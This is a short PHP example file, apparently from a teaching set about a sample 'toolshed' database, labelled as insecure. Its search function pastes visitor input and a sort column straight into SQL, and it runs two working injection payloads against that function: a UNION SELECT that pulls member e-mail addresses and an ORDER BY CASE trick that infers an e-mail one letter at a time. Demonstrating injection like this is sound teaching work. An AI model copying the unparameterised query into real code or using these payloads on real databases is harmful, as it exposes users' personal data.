<?php
// database: postgresql
// needs: ../../databases/samples/toolshed.sql
// insecure: inj-search.php
// Insecure: what a visitor typed becomes a part of the SQL.
declare(strict_types=1);

const UNION = "x' UNION SELECT email FROM member ORDER BY 1 --";
const GUESS = "CASE WHEN (SELECT email FROM member WHERE id = 4) LIKE '%s%%'
    THEN daily_fee ELSE -daily_fee END";

function search(PDO $database, string $text, string $sort = 'name'): array
{
    $sql = "SELECT name FROM tool WHERE name LIKE '%$text%' ORDER BY $sort";
    return $database->query($sql)->fetchAll(PDO::FETCH_COLUMN);
}

$database = new PDO('pgsql:');
echo 'honest: ', implode(', ', search($database, 'drill')), "\n";
echo 'UNION: ', implode(', ', search($database, UNION)), "\n";
foreach (['a', 'd'] as $letter) {
    [$first] = search($database, '', sprintf(GUESS, $letter));
    echo "does the e-mail begin with $letter? first is $first\n";
}
